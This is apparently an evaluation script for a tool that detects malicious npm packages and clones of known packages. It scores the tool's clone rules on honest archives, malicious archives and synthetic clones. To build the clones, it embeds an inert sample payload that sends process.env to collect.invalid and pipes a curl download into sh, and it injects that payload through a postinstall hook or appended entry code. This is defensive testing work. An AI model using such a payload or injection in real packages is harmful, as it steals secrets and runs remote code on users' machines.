// What the comparison of contents says of honest packages were nobody to know their names, of malicious ones, and of
// clones made in memory of known packages.
// --honest DIR, --malicious DIR, --clones DIR  archives, more than once;  --every N  clones each Nth (10)
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { parseArgs } from 'node:util'
import { analyze } from '../../src/analyze/analyze.ts'
import { readFile } from '../../src/gather/inspect.ts'
import { createInspectors } from '../../src/gather/inspectors.ts'
import { mostCopied } from '../../src/likeness/known.ts'
import { type Outline, outlineOf } from '../../src/likeness/outline.ts'
import { openKnown } from '../../src/likeness/shipped.ts'
import type { Evidence } from '../../src/model.ts'
import { factsOf, type ReadFile } from '../../src/parse/archive.ts'
import { cloneAddsCode } from '../../src/rules/clone-adds-code.ts'
import { cloneCopiesPackage } from '../../src/rules/clone-copies-package.ts'
import { cloneCopiesReadme } from '../../src/rules/clone-copies-readme.ts'
import { evidence, known, now } from '../../test/rules/evidence.ts'
import { archivesIn } from '../detection/samples.ts'

const folders = { type: 'string', multiple: true, default: [] as string[] } as const
const { values } = parseArgs({
  options: { honest: folders, malicious: folders, clones: folders, every: { type: 'string', default: '10' } },
})
const shipped = openKnown(readFileSync(join(import.meta.dirname, '../../likeness/known.bin')), 'likeness/known.bin')
const rules = [cloneCopiesPackage, cloneCopiesReadme, cloneAddsCode]
/** Inert: it is analysed and never run. */
const payload = `const h = require('https'), c = require('child_process')
h.request({ host: 'collect.invalid', method: 'POST' }).end(JSON.stringify(process.env))
c.exec('curl https://collect.invalid/x | sh')
`
const asModule = "import h from 'https'\nimport c from 'child_process'"
const say = (text: string) => void process.stdout.write(`${text}\n`)

if (values.honest.length + values.malicious.length + values.clones.length === 0) {
  say('clones: not measured; name folders of archives with --honest DIR, --malicious DIR and --clones DIR')
} else {
  await printSaid('honest', values.honest)
  await printSaid('malicious', values.malicious)
  await printClones(archivesIn(values.clones).filter((_, at) => at % Number(values.every) === 0))
}

type Facts = Pick<Evidence, 'archive' | 'code'>

/** Not compared with the package of its own name. */
function saidOf(
  name: string,
  outline: Outline,
  facts: Facts,
  isLeftOut: (name: string) => boolean,
): Map<string, string> {
  const others = shipped.filter((one) => !isLeftOut(one.name))
  const found = mostCopied(outline, others, new Set())
  const all = evidence({ ...facts, copied: known(found ? { ...found, people: [] } : null) })
  return new Map(
    rules.flatMap((rule) => [...rule.check(all, now)].map(({ args }) => [rule.id, `${name}: ${rule.say(args)}`])),
  )
}

async function printSaid(what: string, from: readonly string[]): Promise<void> {
  const paths = archivesIn(from)
  if (paths.length === 0) return
  const inspectors = createInspectors()
  const said = new Map<string, string[]>(rules.map(({ id }) => [id, []]))
  let read = 0
  const all = paths.map(async (path) => {
    const { archive, code, outline } = await inspectors.inspect({ path, label: path, wantsOutline: true })
    if (archive.state === 'unknown' || outline.state === 'unknown' || !outline.value) return
    read++
    const name = archive.value.manifest.name ?? path
    for (const [rule, line] of saidOf(name, outline.value, { archive, code }, (one) => one === name))
      said.get(rule)?.push(line)
  })
  await Promise.all(all)
  await inspectors.close()
  say(`\n${read} ${what} packages, as if nobody knew their names`)
  for (const [rule, lines] of said) {
    say(`${rule}: ${lines.length} (${((100 * lines.length) / Math.max(1, read)).toFixed(2)} %)`)
    for (const line of lines.sort()) say(`  ${line}`)
  }
}

/** Each of them under another name, once with a script of its own and once with something added to its entry. */
async function printClones(paths: readonly string[]): Promise<void> {
  if (paths.length === 0) return
  const found = new Map<string, number>()
  const count = (what: string) => found.set(what, (found.get(what) ?? 0) + 1)
  const names = new Set(shipped.map(({ name }) => name))
  for (const path of paths) {
    const { readings } = await readFile(path, path)
    const { manifest, manifestText, files } = readings[0]
    if (!names.has(manifest.name ?? '')) continue
    count('clones')
    for (const how of ['script', 'entry'] as const) {
      const clone = cloneOf(manifestText, files, how)
      if (!clone) continue
      count(how)
      const { manifest: own } = factsOf([...clone.files.values()], Buffer.from(clone.manifestText), path)
      const source = { ...clone, manifest: own }
      const archive = known(factsOf([...clone.files.values()], Buffer.from(clone.manifestText), path))
      const said = saidOf('', outlineOf(source), { archive, code: known(analyze(source)) }, () => false)
      if (said.has(cloneCopiesPackage.id) || said.has(cloneCopiesReadme.id)) count(`${how}: seen to be a copy`)
      if (said.has(cloneAddsCode.id)) count(`${how}: ${cloneAddsCode.id}`)
    }
  }
  say('\nclones made of known packages')
  for (const [what, number] of found) say(`${what}: ${number}`)
}

function cloneOf(manifestText: string, files: ReadonlyMap<string, ReadFile>, how: 'script' | 'entry') {
  const manifest = JSON.parse(manifestText) as { main?: unknown; type?: unknown; scripts?: object }
  const all = new Map(files)
  const add = (path: string, text: string) =>
    all.set(path, { path, size: text.length, sha256: 'f'.repeat(64), bytes: Buffer.from(text) })
  const scripts = how === 'script' ? { scripts: { postinstall: 'node prepare.js' } } : {}
  if (how === 'script') add('prepare.js', payload)
  else {
    const main = entryOf(manifest.main, files)
    if (main === undefined) return undefined
    const isModule = main.endsWith('.mjs') || (manifest.type === 'module' && !main.endsWith('.cjs'))
    const text = isModule ? payload.replace(/const .*/u, asModule) : payload
    add(main, `${Buffer.from(files.get(main)?.bytes ?? []).toString()}\n${text}`)
  }
  return { manifestText: JSON.stringify({ ...manifest, ...scripts, name: 'nobody-knows-it' }), files: all }
}

/** Undefined where it cannot be told at a glance, as by \`exports\` alone. */
function entryOf(main: unknown, files: ReadonlyMap<string, ReadFile>): string | undefined {
  const named = typeof main === 'string' ? main.replace(/^\.\//u, '') : 'index'
  return [named, `${named}.js`, `${named.replace(/\/$/u, '')}/index.js`].find((path) => files.has(path))
}
